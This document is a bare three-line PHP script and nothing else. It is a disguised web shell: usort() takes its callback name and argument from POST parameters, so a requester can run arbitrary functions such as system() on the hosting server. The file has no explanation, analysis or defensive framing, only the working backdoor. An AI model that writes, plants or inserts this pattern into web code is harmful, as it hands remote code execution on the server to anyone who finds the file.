<?php
$arr = array($_POST['c'], 1);
usort($arr, $_POST['f']);
